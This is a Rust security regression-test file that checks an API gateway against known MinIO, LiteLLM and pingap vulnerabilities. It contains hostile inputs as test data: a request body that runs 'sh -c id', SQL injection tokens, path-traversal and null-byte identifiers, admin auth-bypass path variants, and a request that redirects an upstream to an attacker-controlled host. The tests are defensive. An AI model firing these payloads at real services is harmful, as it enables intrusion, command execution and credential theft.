//! Models, keys of the admin API, and paths that should not be there.

use super::{NARROW, lab};
use crate::support::origin::{Origin, answer};
use crate::support::raw::Raw;
use crate::support::server::{AI_TOKEN, KEY, REPOSITORY_ID, SECRET};

/// `MinIO` told its environment, secrets included, to whoever asked a path of its own.
#[tokio::test]
async fn cve_2023_28432_paths_that_tell_secrets() {
    let lab = lab().await;
    for path in [
        "/minio/bootstrap/v1/verify",
        "/minio/health/live",
        "/debug/pprof/",
        "/.env",
        "/metrics",
        "/-/status",
        "/repo",
    ] {
        let answer = lab
            .raw(format!(
                "POST {path} HTTP/1.1\r\nHost: h\r\nContent-Length: 0\r\n\r\n"
            ))
            .await;
        assert!(
            matches!(answer.status, 400 | 403 | 404 | 405 | 501),
            "{path}: {answer:?}"
        );
        assert!(!answer.text().contains("canary"), "{path}");
    }
}

/// `MinIO` let a key raise its own privileges.
#[tokio::test]
async fn cve_2024_24747_a_key_that_changes_keys() {
    let lab = lab().await;
    for token in [AI_TOKEN, KEY, SECRET, NARROW, ""] {
        let mut client = Raw::connect(lab.server.admin).await;
        let host = lab.server.admin;
        let body = r#"{"name":"x","accessType":"ADMIN"}"#;
        client
            .send(format!(
                "POST /repo/{REPOSITORY_ID}/apikey HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\n\
                 Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            ))
            .await;
        assert!(
            matches!(client.response().await.status, 401 | 403),
            "{token}"
        );
    }
}

/// `LiteLLM` started what a request told it to start.
#[tokio::test]
async fn cve_2026_42271_paths_that_run_things() {
    let lab = lab().await;
    let key = format!("Host: h\r\nAuthorization: Bearer {AI_TOKEN}");
    for path in [
        "/mcp-rest/test/connection",
        "/v1/mcp/test",
        "/mcp",
        "/config/update",
        "/key/generate",
        "/v1/../key/generate",
    ] {
        let body = r#"{"command":"sh","args":["-c","id"],"transport":"stdio"}"#;
        let answer = lab.ask_ai(&key, path, body).await;
        assert!(
            matches!(answer.status, 400 | 404 | 501),
            "{path}: {answer:?}"
        );
    }
    assert_eq!(lab.origin.requests().len(), 0);
}

/// `LiteLLM` put a key into a query of its database.
#[tokio::test]
async fn cve_2026_42208_keys_that_are_queries() {
    let lab = lab().await;
    for token in [
        "' OR '1'='1",
        "x' UNION SELECT 1--",
        "*",
        "%",
        "sk-\\",
        "../../keys.d/x",
        "00000000-0000-4000-8000-000000000002",
    ] {
        let answer = lab
            .ask_ai(
                &format!("Host: h\r\nAuthorization: Bearer {token}"),
                "/v1/chat/completions",
                "{}",
            )
            .await;
        assert!(matches!(answer.status, 400 | 401), "{token}: {answer:?}");
        let mut request = lab.request("GET", "k");
        token.clone_into(&mut request.key);
        lab.refused([request.head()]).await;
    }
}

/// `LiteLLM` sent its keys to whatever address a request named.
#[tokio::test]
async fn cve_2024_6587_upstream_chosen_by_the_client() {
    let lab = lab().await;
    let evil = Origin::always(answer::ok(b"{}")).await;
    let key = format!(
        "Host: h\r\nAuthorization: Bearer {AI_TOKEN}\r\nx-api-base: http://{0}\r\nx-litellm-api-base: http://{0}",
        evil.address
    );
    for field in [
        "api_base",
        "base_url",
        "api_key",
        "organization",
        "extra_headers",
    ] {
        let body = format!(
            r#"{{"model":"tiny","messages":[],"{field}":"http://{}"}}"#,
            evil.address
        );
        let _answer = lab.ask_ai(&key, "/v1/chat/completions", &body).await;
    }
    assert_eq!(evil.opened(), 0);
    for seen in lab.origin.requests() {
        assert!(
            seen.headers
                .iter()
                .all(|(name, _)| !name.contains("api-base")),
            "{seen:?}"
        );
    }
}

/// pingap read and wrote files by the name that a request gave.
#[tokio::test]
async fn pingap_fa5f1e4_traversal_by_a_configs_name() {
    let lab = lab().await;
    let before = std::fs::read_dir(lab.server.config("")).unwrap().count();
    for id in [
        "..",
        "..%2F..%2Faqueduct.toml",
        "%2e%2e%2fconf.d%2fmain.toml",
        "a%00b",
        "....%2F%2F",
    ] {
        for method in ["GET", "PUT", "DELETE"] {
            let path = format!("/repo/{REPOSITORY_ID}/apikey/{id}");
            let answer = lab
                .server
                .admin(method, &path, r#"{"name":"x","accessType":"READ"}"#)
                .await;
            assert!(
                matches!(answer.status, 400 | 404 | 405),
                "{method} {id}: {answer:?}"
            );
            let answer = lab
                .server
                .admin(method, &format!("/repo/{id}/apikey"), "{}")
                .await;
            assert!(
                matches!(answer.status, 400 | 404 | 405),
                "{method} {id}: {answer:?}"
            );
        }
    }
    assert_eq!(
        std::fs::read_dir(lab.server.config("")).unwrap().count(),
        before
    );
    assert_eq!(lab.server.get("k").await.status, 200);
}

/// pingap's admin let in whoever asked for something that looked like a script.
#[tokio::test]
async fn pingap_0_13_admin_without_a_token_by_suffix() {
    let lab = lab().await;
    let host = lab.server.admin;
    for path in [
        "/repo/x.js",
        "/-/status.js",
        "/repo.css",
        "/-/status?x=.js",
        "/console/../repo",
        "/-/status/x.html",
        "//repo",
        "/healthz/../repo",
        "/REPO",
        "/%72epo",
    ] {
        let mut client = Raw::connect(host).await;
        client
            .send(format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n"))
            .await;
        let answer = client.response().await;
        assert!(
            matches!(answer.status, 400 | 401 | 404),
            "{path}: {answer:?}"
        );
        assert!(!answer.text().contains(REPOSITORY_ID), "{path}");
    }
}
